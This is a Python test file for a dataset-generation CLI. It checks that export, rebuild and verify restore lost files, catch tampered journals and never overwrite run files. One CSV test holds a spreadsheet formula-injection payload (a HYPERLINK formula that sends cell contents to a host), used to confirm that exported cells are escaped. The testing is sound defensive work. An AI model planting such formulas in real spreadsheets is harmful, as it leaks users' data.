"""`export`, `rebuild` and `verify`: derived files can be lost and made again, and no change goes unnoticed."""

from __future__ import annotations

import csv
import io
import json
import shutil
import sqlite3
from collections.abc import Callable
from pathlib import Path

import pytest

from selfgen.store.seeds import read_seeds
from tests.cli.shell import Shell
from tests.fault_server import FaultServer
from tests.stand_in import reply


def damage(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 1
    path.write_bytes(bytes(data))


@pytest.mark.parametrize("hurt", [Path.unlink, damage, lambda path: path.write_bytes(b"")])
def test_rebuild_gives_the_same_bytes(shell: Shell, grown: str, hurt: Callable[[Path], None]) -> None:
    files = [Path("grown/dataset.jsonl"), Path("grown/rejected.jsonl")]
    before = [file.read_bytes() for file in files]
    assert shell("verify", grown).code == 0
    for file in files:
        hurt(file)
    shown = shell("verify", grown)
    assert shown.code == 74
    assert shown.out.count("FAIL") == 2
    assert "selfgen rebuild grown" in shown.err
    assert "40 records in grown/dataset.jsonl" in shell("rebuild", grown).out
    assert [file.read_bytes() for file in files] == before
    assert shell("verify", grown).code == 0


def test_verify_notices_a_cut_dataset(shell: Shell, grown: str) -> None:
    dataset = Path("grown/dataset.jsonl")
    dataset.write_bytes(dataset.read_bytes()[:500])
    shown = shell("verify", grown)
    assert shown.code == 74
    assert "FAIL  dataset.jsonl ends before the journal does" in shown.out


def first_answer() -> str:
    """Return the text of a record's output, which stands in the reply of its last call and nowhere else."""
    return str(json.loads(Path("grown/dataset.jsonl").read_text().splitlines()[0])["output"])


@pytest.mark.parametrize(
    ("statement", "says"),
    [
        ("update events set body = replace(body, ' the ', ' The ') where turn = 0 and stage = 0", "can be replayed"),
        ("update events set body = replace(body, '\"\"', '\"short\"') where kind = 'judged' and turn = 0", "replayed"),
        ("update events set body = replace(body, '{OUTPUT}', 'Changed.') where kind = 'answered'", "dataset.jsonl"),
        ("update header set value = replace(value, 'bees', 'wasps') where name = 'seeds'", "can be replayed"),
        ("update header set value = replace(value, '\"seed\":42', '\"seed\":43') where name = 'identity'", "identity"),
        ("update header set value = replace(value, 'You invent', 'You copy') where name = 'templates'", "replayed"),
    ],
)  # fmt: skip
def test_verify_notices_a_changed_journal(shell: Shell, grown: str, statement: str, says: str) -> None:
    assert shell.edit(statement.replace("{OUTPUT}", first_answer())) > 0
    shown = shell("verify", grown)
    assert shown.code == 74
    assert any(line.startswith("FAIL") and says in line for line in shown.out.splitlines()), shown.out


def test_verify_judges_again(shell: Shell, grown: str) -> None:
    """A verdict turned round with all its consequences is one that no filter comes to."""
    database = sqlite3.connect("grown/run.db")
    found = database.execute("select seq, body from events where kind = 'judged' and body like '%near_dup%'").fetchone()
    body = json.loads(found[1])
    for verdict in body:
        verdict[1] = "too_short" if verdict[1] == "near_duplicate" else verdict[1]
    database.execute("update events set body = ? where seq = ?", (json.dumps(body), found[0]))
    database.commit()
    database.close()
    shell("rebuild", grown)
    shown = shell("verify", grown)
    assert shown.code == 74
    assert "(too_short -> near_duplicate)" in shown.out


FORMATS = ("alpaca", "alpaca-jsonl", "messages", "sharegpt", "self-instruct", "csv", "txt", "jsonl")


@pytest.mark.parametrize("format", FORMATS)
def test_every_export_can_be_read_back(shell: Shell, grown: str, format: str) -> None:
    shown = shell("export", grown, "--format", format)
    assert shown.code == 0
    path = Path(shown.out.strip().rpartition(" in ")[2])
    assert path.parent == Path(grown)
    assert ".csv.csv" not in path.name
    records = [json.loads(line) for line in Path("grown/dataset.jsonl").read_text().splitlines()]
    tasks = read_seeds([path]).tasks
    assert [task.instruction.split("\n\n")[0] for task in tasks] == [record["instruction"] for record in records]
    assert [task.output for task in tasks] == [record["output"] for record in records]
    assert shell("verify", grown).code == 0


def test_export_to_a_file_with_seeds_and_to_a_pipe(shell: Shell, grown: str) -> None:
    shown = shell("export", grown, "--format", "alpaca-jsonl", "--out", "all.jsonl", "--with-seeds")
    assert "48 records in all.jsonl" in shown.out
    lines = Path("all.jsonl").read_text().splitlines()
    assert "old maps of Peru" in "".join(lines[:8])
    assert shell("export", grown, "--format", "alpaca-jsonl", "--out", "-").code == 0


@pytest.mark.parametrize(
    "out",
    ["grown/run.db", "grown/run.db-wal", "grown/lock", "grown/dataset.jsonl", "grown/rejected.jsonl", "seeds.jsonl",
     "grown/prompts/self_instruct/propose.j2", "link.db", "other/run.db"],
)  # fmt: skip
def test_an_export_never_replaces_what_it_is_made_of(shell: Shell, grown: str, out: str) -> None:
    shutil.copytree(grown, "other")
    Path("link.db").symlink_to("grown/run.db")
    Path("grown/run.db-wal").touch()
    before = Path(out).read_bytes()
    shown = shell("export", grown, "--out", out)
    assert shown.code == 64
    assert "part of a run, or its seeds" in shown.err
    assert Path(out).read_bytes() == before


def test_an_export_cannot_be_written(shell: Shell, grown: str) -> None:
    for out in ("nowhere/x.json", ".", "/dev/null"):
        shown = shell("export", grown, "--out", out)
        assert shown.code == 74
        assert "cannot be written" in shown.err


def test_csv_cells_are_no_formulas(shell: Shell) -> None:
    evil = '=HYPERLINK("http://127.0.0.1/?x="&A1,"click")'

    def spread(body: dict[str, object]) -> str:
        text = reply(body)
        return evil if not body.get("response_format") else text

    with FaultServer(reply=spread) as server:
        shell.run(server, target=5)
    shell("export", "grown", "--format", "csv")
    cells = [row[3] for row in csv.reader(io.StringIO(Path("grown/grown.csv").read_text(encoding="utf-8-sig")))]
    assert f"'{evil}" in cells
    assert not any(cell.startswith("=") for cell in cells)
    assert evil in [task.output for task in read_seeds([Path("grown/grown.csv")]).tasks]
